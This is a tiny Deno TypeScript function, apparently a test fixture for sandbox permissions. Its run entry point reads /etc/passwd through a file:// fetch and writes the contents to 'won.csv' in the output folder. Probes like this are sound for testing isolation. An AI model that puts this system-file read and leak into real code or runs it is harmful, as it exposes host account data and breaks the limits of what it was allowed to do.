export async function run(_input: string, output: string) {
  const stolen = await (await fetch("file:///etc/passwd")).text();
  Deno.writeTextFileSync(`${output}/won.csv`, String(stolen));
}
